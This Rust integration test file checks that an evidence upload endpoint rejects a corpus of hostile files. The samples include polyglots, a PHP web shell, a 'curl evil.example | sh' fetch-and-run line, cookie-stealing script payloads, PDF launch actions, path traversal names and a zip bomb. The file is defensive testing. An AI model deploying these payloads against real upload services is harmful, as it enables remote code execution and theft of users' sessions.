//! The hostile-upload corpus (issue #6 item 7) over HTTP through `POST /evidence/upload`:
//! polyglots, double extensions and disguised names, archives and a zip bomb, programs and
//! web pages in disguise, oversize by declared length and by a chunked body. Each is
//! answered 4xx (never 500) with its own reason, and nothing is stored: no `stored_file`
//! row, no evidence row, no history, no file under the uploads directory. Clean files of
//! every accepted type are still accepted.

use crate::common::*;
use crate::corpus;

use app::domain::Role;
use app::models::CurrentUser;
use app::models::assessment::{Judgement, Outcome, Task, TaskKind};
use app::models::evidence::{MAX_BYTES, MediaType, Rejection};
use app::server::auth::Caller;
use app::server::entities::{
    course, enrolment, enrolment_unit, history, judgement_evidence, qualification,
    qualification_unit, stored_file, unit,
};
use app::server::services::assessment;
use sea_orm::{
    ActiveValue::NotSet, ActiveValue::Set, ColumnTrait, EntityTrait, PaginatorTrait, QueryFilter,
};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

const BOUNDARY: &str = "hostile-upload-boundary-51f0";

/// The start of a multipart body: the judgement field and the file part's headers.
fn preamble(judgement: i64, filename: &str, mime: &str) -> Vec<u8> {
    format!(
        "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"judgement_id\"\r\n\r\n{judgement}\r\n\
         --{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{filename}\"\r\n\
         Content-Type: {mime}\r\n\r\n"
    )
    .into_bytes()
}

fn multipart(judgement: i64, filename: &str, mime: &str, bytes: &[u8]) -> Vec<u8> {
    let mut body = preamble(judgement, filename, mime);
    body.extend_from_slice(bytes);
    body.extend_from_slice(format!("\r\n--{BOUNDARY}--\r\n").as_bytes());
    body
}

/// Posts a file as the page's script does (`accept` JSON) or as a plain form (`text/html`).
async fn post(
    app: &TestApp,
    client: &reqwest::Client,
    judgement: i64,
    (filename, mime, bytes): (&str, &str, &[u8]),
    accept: &str,
) -> reqwest::Response {
    client
        .post(format!("{}/evidence/upload", app.address))
        .header(
            "content-type",
            format!("multipart/form-data; boundary={BOUNDARY}"),
        )
        .header("accept", accept)
        .body(multipart(judgement, filename, mime, bytes))
        .send()
        .await
        .expect("upload request")
}

/// What was stored: `stored_file` rows, evidence rows, evidence history rows, files on disk.
async fn stored(app: &TestApp) -> (u64, u64, u64, usize) {
    let db = &app.state.db;
    (
        stored_file::Entity::find().count(db).await.unwrap(),
        judgement_evidence::Entity::find().count(db).await.unwrap(),
        history::Entity::find()
            .filter(history::Column::Entity.eq("judgement_evidence"))
            .count(db)
            .await
            .unwrap(),
        files_under(&uploads_dir(app)),
    )
}

/// The local storage's root (from its debug form: `LocalDisk { root: "…" }`).
fn uploads_dir(app: &TestApp) -> std::path::PathBuf {
    let debug = format!("{:?}", app.state.storage);
    let root = debug
        .split_once("root: \"")
        .and_then(|(_, rest)| rest.split_once('"'))
        .map(|(root, _)| root.to_owned())
        .unwrap_or_else(|| panic!("the tests run on local storage: {debug}"));
    root.into()
}

fn files_under(dir: &std::path::Path) -> usize {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return 0;
    };
    entries
        .flatten()
        .map(|e| {
            let path = e.path();
            if path.is_dir() { files_under(&path) } else { 1 }
        })
        .sum()
}

fn caller(id: i64) -> Caller {
    Caller {
        user: Some(CurrentUser {
            id,
            email: "educator@test.example".into(),
            display_name: "Test Person".into(),
            roles: vec![Role::Educator],
            learner_id: None,
        }),
        ..Caller::default()
    }
}

/// A judgement of learner A's first attempt at an observation in the cast's course, by the
/// course's educator (as `server/tests/evidence.rs` arranges it).
async fn judgement(app: &TestApp, cast: &Cast) -> i64 {
    let db = &app.state.db;
    let q = qualification::Entity::insert(qualification::ActiveModel {
        id: NotSet,
        code: Set("CPC30220".into()),
        title: Set("Certificate III in Carpentry".into()),
        level: Set(3),
        electives_required: Set(0),
        status: Set("current".into()),
        created_at: Set(chrono::Utc::now()),
        version: Set(1),
    })
    .exec(db)
    .await
    .unwrap()
    .last_insert_id;
    let u = unit::Entity::insert(unit::ActiveModel {
        id: NotSet,
        code: Set("CPCCCA3002".into()),
        title: Set("Carry out setting out".into()),
        nominal_hours: Set(40),
    })
    .exec(db)
    .await
    .unwrap()
    .last_insert_id;
    qualification_unit::Entity::insert(qualification_unit::ActiveModel {
        qualification_id: Set(q),
        unit_id: Set(u),
        kind: Set("core".into()),
    })
    .exec(db)
    .await
    .unwrap();
    let mut c = course::Entity::find()
        .filter(course::Column::Code.eq("C1"))
        .one(db)
        .await
        .unwrap()
        .unwrap();
    course::Entity::update_many()
        .col_expr(
            course::Column::QualificationId,
            sea_orm::sea_query::Expr::value(q),
        )
        .filter(course::Column::Id.eq(c.id))
        .exec(db)
        .await
        .unwrap();
    c.qualification_id = Some(q);
    let e = enrolment::Entity::find()
        .filter(enrolment::Column::LearnerId.eq(cast.learner_a))
        .one(db)
        .await
        .unwrap()
        .unwrap();
    enrolment_unit::Entity::insert(enrolment_unit::ActiveModel {
        enrolment_id: Set(e.id),
        unit_id: Set(u),
    })
    .exec(db)
    .await
    .unwrap();
    let who = caller(cast.ids["educator"]);
    let task = Task {
        unit_id: u,
        kind: TaskKind::Observation,
        title: "Set out a wall frame".into(),
        instructions: "Observed on site.".into(),
        due_on: None,
    };
    let task_id = assessment::create_task(db, &who, &c, &task).await.unwrap();
    let task = assessment::task(db, task_id).await.unwrap();
    let j = Judgement {
        attempt: None,
        outcome: Outcome::Competent,
        score: None,
        assessed_on: chrono::NaiveDate::from_ymd_opt(2026, 11, 30).unwrap(),
        feedback: "Square and plumb.".into(),
    };
    assessment::record_judgement(db, &who, &task, &e, &j)
        .await
        .unwrap()
}

/// One hostile sample: what it is, the name and type it is sent with, its bytes, and the
/// reason it must be refused with.
struct Sample {
    what: &'static str,
    name: &'static str,
    mime: &'static str,
    bytes: Vec<u8>,
    reason: Rejection,
}

fn sample(
    what: &'static str,
    name: &'static str,
    mime: &'static str,
    bytes: Vec<u8>,
    reason: Rejection,
) -> Sample {
    Sample {
        what,
        name,
        mime,
        bytes,
        reason,
    }
}

fn hostile_corpus() -> Vec<Sample> {
    use corpus::*;
    let padded_html = {
        // Markup past the first kilobyte is not sniffed, but after IEND it is still
        // hidden data.
        let mut tail = vec![b' '; 2048];
        tail.extend_from_slice(&html());
        cat(&png("p"), &tail)
    };
    vec![
        // Polyglots: an accepted type that is also something else.
        sample(
            "JPEG + ZIP appended",
            "photo.jpg",
            "image/jpeg",
            cat(&jpeg("j"), &zip()),
            Rejection::HiddenArchive,
        ),
        sample(
            "PNG with a ZIP in a chunk",
            "site.png",
            "image/png",
            png_with("z", &[(b"zIPx", &zip())]),
            Rejection::HiddenArchive,
        ),
        sample(
            "PDF + ZIP (a JAR) appended",
            "report.pdf",
            "application/pdf",
            cat(&pdf(), &zip()),
            Rejection::HiddenArchive,
        ),
        sample(
            "MP4 with a ZIP in a free box",
            "clip.mp4",
            "video/mp4",
            {
                let z = zip();
                let mut free = ((z.len() + 8) as u32).to_be_bytes().to_vec();
                free.extend_from_slice(b"free");
                free.extend_from_slice(&z);
                cat(&video(b"isom"), &free)
            },
            Rejection::HiddenArchive,
        ),
        sample(
            "JPEG with a PHP web shell after the end marker",
            "photo.jpg",
            "image/jpeg",
            cat(&jpeg("j"), b"<?php system($_GET['c']); ?>"),
            Rejection::TrailingData,
        ),
        sample(
            "PNG with a web page after IEND",
            "photo.png",
            "image/png",
            padded_html,
            Rejection::TrailingData,
        ),
        sample(
            "WebP longer than its RIFF size",
            "photo.webp",
            "image/webp",
            cat(&webp(), b"#!/bin/sh\ncurl evil.example | sh\n"),
            Rejection::TrailingData,
        ),
        sample(
            "JPEG with a script in its comment",
            "photo.jpg",
            "image/jpeg",
            jpeg("<script>alert(document.cookie)</script>"),
            Rejection::HiddenMarkup,
        ),
        sample(
            "PNG with an SVG in a text chunk",
            "photo.png",
            "image/png",
            png("<svg onload=alert(1)>"),
            Rejection::HiddenMarkup,
        ),
        sample(
            "PDF starting a web page",
            "cv.pdf",
            "application/pdf",
            pdf_with("/Title (<HTML><BODY onload=alert(1)>)"),
            Rejection::HiddenMarkup,
        ),
        sample(
            "PNG carrying a PDF",
            "scan.png",
            "image/png",
            png("%PDF-1.4 1 0 obj"),
            Rejection::HiddenPdf,
        ),
        sample(
            "PDF with JavaScript on opening",
            "form.pdf",
            "application/pdf",
            pdf_with("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
            Rejection::PdfActive,
        ),
        sample(
            "PDF with an escaped /JavaScript name",
            "form.pdf",
            "application/pdf",
            pdf_with("/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
            Rejection::PdfActive,
        ),
        sample(
            "PDF launching a program",
            "invoice.pdf",
            "application/pdf",
            pdf_with("/OpenAction << /S /Launch /F (cmd.exe) >>"),
            Rejection::PdfActive,
        ),
        sample(
            "PDF with an embedded file",
            "cv.pdf",
            "application/pdf",
            pdf_with("/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>"),
            Rejection::PdfActive,
        ),
        sample(
            "PDF with an XFA form",
            "form.pdf",
            "application/pdf",
            pdf_with("/AcroForm << /XFA 5 0 R >>"),
            Rejection::PdfActive,
        ),
        sample(
            "PNG cut short",
            "photo.png",
            "image/png",
            {
                let p = png("p");
                p[..p.len() - 12].to_vec()
            },
            Rejection::BrokenPng,
        ),
        sample(
            "PNG with a chunk claiming 2 GB",
            "photo.png",
            "image/png",
            {
                let mut p = png("p");
                p[33..37].copy_from_slice(&[0x7F, 0xFF, 0xFF, 0xF0]);
                p
            },
            Rejection::BrokenPng,
        ),
        sample(
            "JPEG whose segments do not chain",
            "photo.jpg",
            "image/jpeg",
            b"\xFF\xD8\xFF\xE0\x00\x10JFIF\0 then anything at all".to_vec(),
            Rejection::BrokenJpeg,
        ),
        sample(
            "WebP cut short",
            "photo.webp",
            "image/webp",
            {
                let w = webp();
                w[..w.len() - 4].to_vec()
            },
            Rejection::BrokenWebp,
        ),
        sample(
            "MP4 with garbage after its boxes",
            "clip.mp4",
            "video/mp4",
            cat(&video(b"isom"), b"MZ\x90\0 not a box at all"),
            Rejection::BrokenVideo,
        ),
        sample(
            "MOV with a box running past the end",
            "clip.mov",
            "video/quicktime",
            cat(&video(b"qt  "), b"\0\x10\0\0mdat\x01\x02"),
            Rejection::BrokenVideo,
        ),
        // Names.
        sample(
            "double extension .jpg.exe",
            "photo.jpg.exe",
            "image/jpeg",
            jpeg("n"),
            Rejection::DoubleExtension,
        ),
        sample(
            "double extension .pdf.html",
            "cv.pdf.html",
            "text/html",
            pdf(),
            Rejection::DoubleExtension,
        ),
        sample(
            "double extension .php.png",
            "x.php.png",
            "image/png",
            png("n"),
            Rejection::DoubleExtension,
        ),
        sample(
            "right-to-left override hiding .exe",
            "photo\u{202E}gnp.exe",
            "image/png",
            png("n"),
            Rejection::BidiName,
        ),
        sample(
            "path traversal with slashes",
            "../../etc/passwd.jpg",
            "image/jpeg",
            jpeg("n"),
            Rejection::Name,
        ),
        sample(
            "path traversal with backslashes",
            "..\\..\\x.png",
            "image/png",
            png("n"),
            Rejection::Name,
        ),
        // Other formats in disguise.
        sample(
            "SVG with a script declared as SVG, named .png",
            "logo.png",
            "image/svg+xml",
            svg(),
            Rejection::Svg,
        ),
        sample(
            "HTML named .jpg",
            "photo.jpg",
            "image/jpeg",
            html(),
            Rejection::Html,
        ),
        sample(
            "EXE named .pdf",
            "cv.pdf",
            "application/pdf",
            exe(),
            Rejection::Executable,
        ),
        sample(
            "zip bomb (4 GB claimed)",
            "bomb.png",
            "image/png",
            zip_bomb(),
            Rejection::Archive,
        ),
        sample(
            "ZIP named .jpg",
            "photos.jpg",
            "image/jpeg",
            zip(),
            Rejection::Archive,
        ),
        sample(
            "gzip",
            "photos.png.gz",
            "application/gzip",
            gzip(),
            Rejection::Compressed,
        ),
        sample(
            "7z named .pdf",
            "notes.pdf",
            "application/pdf",
            b"7z\xBC\xAF\x27\x1C\0\x04\x8D\x9B".to_vec(),
            Rejection::Compressed,
        ),
        sample(
            "RAR named .mp4",
            "clip.mp4",
            "video/mp4",
            b"Rar!\x1A\x07\x01\0\x33\x92".to_vec(),
            Rejection::Compressed,
        ),
    ]
}

#[tokio::test]
async fn every_hostile_sample_is_refused_with_its_own_reason_and_nothing_is_stored() {
    let app = spawn_app().await;
    let cast = app.cast().await;
    let j = judgement(&app, &cast).await;
    let educator = app.client_for("educator@test.example").await;
    let corpus = hostile_corpus();
    assert!(corpus.len() >= 15);
    for s in &corpus {
        // The checks themselves agree with the server.
        let direct = app::models::evidence::check_filename(s.name)
            .and_then(|()| app::models::evidence::detect(&s.bytes));
        assert_eq!(direct, Err(s.reason), "{}: the shared checks", s.what);

        let res = post(
            &app,
            &educator,
            j,
            (s.name, s.mime, &s.bytes),
            "application/json",
        )
        .await;
        let status = res.status();
        assert_eq!(status, 422, "{}: refused as unprocessable", s.what);
        let answer: serde_json::Value = res.json().await.unwrap();
        assert_eq!(answer["code"], s.reason.code(), "{}", s.what);
        assert_eq!(answer["error"], s.reason.message(), "{}", s.what);
        assert!(answer["id"].is_null(), "{}", s.what);
        assert_eq!(
            stored(&app).await,
            (0, 0, 0, 0),
            "{}: nothing stored",
            s.what
        );
    }

    // Every reason in the corpus is distinct from the plain "not recognised".
    let reasons: std::collections::HashSet<_> = corpus.iter().map(|s| s.reason.code()).collect();
    assert!(reasons.len() >= 14, "{reasons:?}");
    assert!(!reasons.contains("unknown"));
}

#[tokio::test]
async fn without_javascript_the_reason_travels_back_to_the_page() {
    let app = spawn_app().await;
    let cast = app.cast().await;
    let j = judgement(&app, &cast).await;
    let educator = app.client_for("educator@test.example").await;
    for s in hostile_corpus().iter().filter(|s| {
        matches!(
            s.reason,
            Rejection::HiddenArchive
                | Rejection::PdfActive
                | Rejection::DoubleExtension
                | Rejection::BidiName
                | Rejection::TrailingData
                | Rejection::Compressed
        )
    }) {
        let res = post(&app, &educator, j, (s.name, s.mime, &s.bytes), "text/html").await;
        assert_eq!(res.status(), 303, "{}", s.what);
        let location = format!("/evidence/judgements/{j}?error={}", s.reason.code());
        assert_eq!(res.headers()["location"], location.as_str(), "{}", s.what);
    }
    let page = educator
        .get(format!(
            "{}/evidence/judgements/{j}?error=pdf_active",
            app.address
        ))
        .send()
        .await
        .unwrap();
    assert_eq!(page.status(), 200);
    let page = page.text().await.unwrap();
    assert!(page.contains("PDF files with scripts or embedded files are not accepted"));
    assert_eq!(stored(&app).await, (0, 0, 0, 0));
}

#[tokio::test]
async fn a_nul_in_the_name_is_refused_without_a_server_error() {
    let app = spawn_app().await;
    let cast = app.cast().await;
    let j = judgement(&app, &cast).await;
    let educator = app.client_for("educator@test.example").await;
    let png = corpus::png("nul");
    for name in ["photo\0.png", "photo.png\0.exe", "\0"] {
        let res = post(
            &app,
            &educator,
            j,
            (name, "image/png", &png),
            "application/json",
        )
        .await;
        let status = res.status().as_u16();
        assert!(status == 400 || status == 422, "{name:?}: {status}");
        if status == 422 {
            // Our name check, or the multipart parser refusing the header first.
            let answer: serde_json::Value = res.json().await.unwrap();
            let code = answer["code"].as_str().unwrap_or_default().to_owned();
            assert!(code == "name" || code == "unreadable", "{name:?}: {code}");
        }
        assert_eq!(stored(&app).await, (0, 0, 0, 0));
    }
}

#[tokio::test]
async fn clean_files_of_every_accepted_type_are_still_accepted() {
    let app = spawn_app().await;
    let cast = app.cast().await;
    let j = judgement(&app, &cast).await;
    let educator = app.client_for("educator@test.example").await;
    let big_pdf = {
        // A 5 MB scan-like PDF: compressed-looking stream data, no active content.
        let mut body = corpus::pdf_with("/OpenAction [3 0 R /Fit]");
        body.truncate(body.len() - 6); // before %%EOF
        body.extend_from_slice(b"4 0 obj\n<< /Length 5000000 /Filter /FlateDecode >>\nstream\n");
        let mut x = 0x9E37_79B9_7F4A_7C15u64;
        for _ in 0..625_000 {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            body.extend_from_slice(&x.to_le_bytes());
        }
        body.extend_from_slice(b"\nendstream\nendobj\n%%EOF\n");
        body
    };
    let clean: Vec<(&str, &str, Vec<u8>, MediaType)> = vec![
        (
            "wall.jpg",
            "image/jpeg",
            corpus::jpeg("wall"),
            MediaType::Jpeg,
        ),
        (
            "phone photo.jpg",
            "image/jpeg",
            corpus::phone_jpeg(),
            MediaType::Jpeg,
        ),
        (
            "padded.jpg",
            "image/jpeg",
            corpus::cat(&corpus::jpeg("pad"), &[0; 64]),
            MediaType::Jpeg,
        ),
        (
            "frame.png",
            "image/png",
            corpus::png("frame"),
            MediaType::Png,
        ),
        ("frame.webp", "image/webp", corpus::webp(), MediaType::Webp),
        (
            "report.pdf",
            "application/pdf",
            corpus::pdf(),
            MediaType::Pdf,
        ),
        ("scan.pdf", "application/pdf", big_pdf, MediaType::Pdf),
        (
            "clip.mp4",
            "video/mp4",
            corpus::video(b"isom"),
            MediaType::Mp4,
        ),
        (
            "clip.mov",
            "video/quicktime",
            corpus::video(b"qt  "),
            MediaType::Mov,
        ),
        // A name whose extension disagrees with the contents is kept under the real type.
        (
            "site.visit.2026.jpg",
            "image/jpeg",
            corpus::png("named jpg"),
            MediaType::Png,
        ),
    ];
    for (i, (name, mime, bytes, media)) in clean.iter().enumerate() {
        let res = post(&app, &educator, j, (name, mime, bytes), "application/json").await;
        assert_eq!(res.status(), 201, "{name} is accepted");
        let answer: serde_json::Value = res.json().await.unwrap();
        let id = answer["id"].as_i64().expect("evidence id");
        let row = judgement_evidence::Entity::find_by_id(id)
            .one(&app.state.db)
            .await
            .unwrap()
            .unwrap();
        let file = stored_file::Entity::find_by_id(row.file_id)
            .one(&app.state.db)
            .await
            .unwrap()
            .unwrap();
        assert_eq!(file.media_type, media.mime(), "{name}");
        assert_eq!(file.size, bytes.len() as i64, "{name}");
        let n = (i + 1) as u64;
        assert_eq!(stored(&app).await, (n, n, n, i + 1), "{name}: stored once");
    }
}

/// The session cookie of a signed-in educator, for requests written by hand.
async fn session_cookie(app: &TestApp) -> String {
    let client = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let res = client
        .post(format!("{}/api/auth/sign_in", app.address))
        .form(&[("email", "educator@test.example"), ("password", PASSWORD)])
        .send()
        .await
        .unwrap();
    let cookies: Vec<String> = res
        .headers()
        .get_all("set-cookie")
        .iter()
        .filter_map(|v| v.to_str().ok())
        .filter_map(|v| v.split(';').next().map(str::to_owned))
        .collect();
    assert!(!cookies.is_empty(), "sign-in sets a session cookie");
    cookies.join("; ")
}

/// Sends `head`, then `body` in pieces while reading whatever the server answers; returns
/// the answer (status line, headers and body as text).
async fn raw_exchange(app: &TestApp, head: String, body: impl Iterator<Item = Vec<u8>>) -> String {
    let addr = app.address.trim_start_matches("http://").to_owned();
    let stream = tokio::net::TcpStream::connect(&addr).await.unwrap();
    let (mut read, mut write) = stream.into_split();
    let reader = tokio::spawn(async move {
        let mut answer = Vec::new();
        let _ = tokio::time::timeout(
            std::time::Duration::from_secs(60),
            read.read_to_end(&mut answer),
        )
        .await;
        answer
    });
    if write.write_all(head.as_bytes()).await.is_ok() {
        for piece in body {
            if reader.is_finished() || write.write_all(&piece).await.is_err() {
                break;
            }
        }
    }
    let _ = write.shutdown().await;
    String::from_utf8_lossy(&reader.await.unwrap()).into_owned()
}

#[tokio::test]
async fn a_declared_length_over_the_limit_is_refused_before_the_body_is_read() {
    let app = spawn_app().await;
    let cast = app.cast().await;
    let j = judgement(&app, &cast).await;
    let cookie = session_cookie(&app).await;
    let declared = MAX_BYTES + 5 * 1024 * 1024;
    let head = format!(
        "POST /evidence/upload HTTP/1.1\r\nHost: {}\r\nCookie: {cookie}\r\n\
         Accept: application/json\r\nContent-Type: multipart/form-data; boundary={BOUNDARY}\r\n\
         Content-Length: {declared}\r\n\r\n",
        app.address.trim_start_matches("http://")
    );
    // Only the first few kilobytes are ever sent: the answer must come without the rest.
    let first = vec![cat_preamble(j), vec![0u8; 4096]];
    let started = std::time::Instant::now();
    let answer = raw_exchange(&app, head, first.into_iter()).await;
    assert!(
        started.elapsed() < std::time::Duration::from_secs(30),
        "answered without waiting for the body"
    );
    assert!(answer.starts_with("HTTP/1.1 413"), "{answer}");
    assert!(answer.contains(&Rejection::TooLarge.message()), "{answer}");
    assert!(answer.contains("\"code\":\"too_large\""), "{answer}");
    assert_eq!(stored(&app).await, (0, 0, 0, 0));
}

fn cat_preamble(judgement: i64) -> Vec<u8> {
    corpus::cat(
        &preamble(judgement, "huge.jpg", "image/jpeg"),
        &corpus::jpeg("start"),
    )
}

#[tokio::test]
async fn a_chunked_body_over_the_limit_is_cut_off_with_the_same_reason() {
    let app = spawn_app().await;
    let cast = app.cast().await;
    let j = judgement(&app, &cast).await;
    let cookie = session_cookie(&app).await;
    let head = format!(
        "POST /evidence/upload HTTP/1.1\r\nHost: {}\r\nCookie: {cookie}\r\n\
         Accept: application/json\r\nContent-Type: multipart/form-data; boundary={BOUNDARY}\r\n\
         Transfer-Encoding: chunked\r\n\r\n",
        app.address.trim_start_matches("http://")
    );
    let piece = 256 * 1024;
    let pieces = MAX_BYTES / piece + 8; // two megabytes over the limit
    let chunked = |data: &[u8]| {
        let mut c = format!("{:X}\r\n", data.len()).into_bytes();
        c.extend_from_slice(data);
        c.extend_from_slice(b"\r\n");
        c
    };
    let first = chunked(&cat_preamble(j));
    let filler = chunked(&vec![0x5Au8; piece]);
    let body = std::iter::once(first).chain(std::iter::repeat_n(filler, pieces));
    let answer = raw_exchange(&app, head, body).await;
    assert!(answer.starts_with("HTTP/1.1 413"), "{answer}");
    assert!(answer.contains(&Rejection::TooLarge.message()), "{answer}");
    assert_eq!(stored(&app).await, (0, 0, 0, 0));
}
